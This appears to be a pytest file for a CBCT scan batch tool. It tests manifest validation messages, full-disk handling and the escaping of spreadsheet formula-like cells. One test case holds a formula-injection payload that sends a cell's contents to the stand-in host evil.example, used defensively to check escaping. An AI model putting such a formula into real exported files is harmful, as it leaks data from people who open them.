"""Hostile manifests and outputs: clear messages naming the file and line, never a traceback;
formula-like case ids escaped as spreadsheets expect; a full disk stops the run cleanly."""

from __future__ import annotations

import csv
import os
import resource
import signal
import subprocess
import sys
from pathlib import Path

import pytest

from cbct_osteo.batch import read_manifest, run_batch
from cbct_osteo.cli import main
from cbct_osteo.indices import csv_columns
from cbct_osteo.io.csv_cells import escape_cell, unescape_cell
from cbct_osteo.io.errors import LoadError


@pytest.mark.parametrize(
    "text, message",
    [
        ("case_id,volume,landmarks\nP1,a,b,\n", "line 2: 4 fields but the header has 3 (a trailing comma"),
        ("case_id,volume,landmarks,age,age\nP1,a,b,60,61\n", "line 1: the header names age more than once"),
        ("case_id,volume,landmarks,age\nP1,a,b,sixty-three\n", "line 2: age 'sixty-three' is not a number of years"),
        ("case_id,volume,landmarks,age\nP1,a,b,630\n", "line 2: age '630' is not a number of years"),
        ("case_id,volume,landmarks,age\nP1,a,b,nan\n", "line 2: age 'nan' is not a number of years"),
        ("case_id,volume,landmarks,sex\nP1,a,b,woman\n", "line 2: sex 'woman' is not one of F, M, O"),
        ("case_id,volume,landmarks\nP1,a\x00,b\n", "line 2: contains a NUL character"),
        ("", "is empty"),
    ],
)
def test_bad_manifests_name_the_file_and_line(tmp_path, text, message):
    manifest = tmp_path / "manifest.csv"
    manifest.write_text(text, encoding="utf-8")
    with pytest.raises(LoadError, match="manifest.csv") as caught:
        read_manifest(manifest)
    assert message in str(caught.value)


def test_manifest_keeps_good_rows_as_written(tmp_path):
    manifest = tmp_path / "manifest.csv"
    manifest.write_text("case_id,volume,landmarks,age,sex,notes\nP1,a,b,63,f,ok\nP2,c,d,,,\n\n", encoding="utf-8")
    first, second = read_manifest(manifest)
    assert (first.case_id, first.age, first.sex) == ("P1", "63", "F")
    assert (second.age, second.sex) == ("", "")


def test_batch_command_reports_a_bad_manifest_without_traceback(tmp_path, capsys):
    manifest = tmp_path / "manifest.csv"
    manifest.write_text("case_id,volume,landmarks\nP1,a,b,\n", encoding="utf-8")
    assert main(["batch", str(manifest), "--out", str(tmp_path / "out.csv")]) == 2
    err = capsys.readouterr().err
    assert "manifest.csv: line 2: 4 fields" in err and "Traceback" not in err


@pytest.mark.parametrize(
    "text", ['=HYPERLINK("http://x","y")', "+1+2", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd", "'=x", "'plain"]
)
def test_formula_like_cells_are_escaped_and_read_back(text):
    escaped = escape_cell(text)
    assert escaped.startswith("'") and escaped[1:] != "" and unescape_cell(escaped) == text


@pytest.mark.parametrize("text", ["-0.25", "1e-05", "case-12", "P001", "", "left: not measurable"])
def test_numbers_and_plain_text_are_left_alone(text):
    assert escape_cell(text) == text and unescape_cell(text) == text


def test_batch_escapes_formula_case_ids_and_resumes_them(phantom_cohort, manifest_writer, tmp_path):
    root = phantom_cohort["root"]
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
    manifest = manifest_writer(
        tmp_path / "m.csv",
        [
            {
                "case_id": formula,
                "volume": str(root / "case3"),
                "landmarks": str(root / "case3" / "landmarks.json"),
                "age": "",
                "sex": "",
            },
            {"case_id": "@cmd", "volume": str(root / "no_such_scan"), "landmarks": "x.json", "age": "", "sex": ""},
        ],
    )
    out = tmp_path / "out.csv"
    summary = run_batch(manifest, out, workers=2)
    assert (summary.ok, summary.errors) == (1, 1)
    with open(out, newline="", encoding="utf-8") as handle:
        cells = [row[0] for row in csv.reader(handle)][1:]
    assert sorted(cells) == sorted(["'" + formula, "'@cmd"])
    summary = run_batch(manifest, out, workers=2, resume=True)
    assert summary.skipped == 1, "the escaped id is recognised as finished"


def _limit_file_size(max_bytes: int):
    def limit() -> None:
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a write past the limit fails with EFBIG instead
        resource.setrlimit(resource.RLIMIT_FSIZE, (max_bytes, max_bytes))

    return limit


def test_batch_out_on_a_full_disk_stops_with_a_message(phantom_cohort, tmp_path):
    """The file system refuses the second row (RLIMIT_FSIZE stands in for a full disk: same failing write)."""
    out = tmp_path / "out.csv"
    header_bytes = len(",".join(csv_columns())) + 1
    tree = str(Path(__file__).resolve().parents[2])
    result = subprocess.run(
        [
            sys.executable,
            "-m",
            "cbct_osteo",
            "batch",
            str(phantom_cohort["manifest"]),
            "--out",
            str(out),
            "--workers",
            "2",
        ],
        capture_output=True,
        text=True,
        timeout=300,
        preexec_fn=_limit_file_size(header_bytes + 600),
        env={**os.environ, "PYTHONPATH": os.pathsep.join(filter(None, (tree, os.environ.get("PYTHONPATH"))))},
    )
    assert result.returncode == 2, result.stderr
    assert "out.csv: could not be written: File too large" in result.stderr
    assert "--resume" in result.stderr and "Traceback" not in result.stderr
    with open(out, newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert all(row["status"] in ("ok", "error") for row in rows[:-1])


@pytest.mark.parametrize("target", ["folder", "/dev/null"])
def test_batch_out_must_be_a_regular_file(phantom_cohort, tmp_path, capsys, target):
    out = tmp_path if target == "folder" else target
    assert main(["batch", str(phantom_cohort["manifest"]), "--out", str(out)]) == 2
    assert "is not a regular file" in capsys.readouterr().err
    assert os.path.exists("/dev/null") and not os.path.isfile("/dev/null")
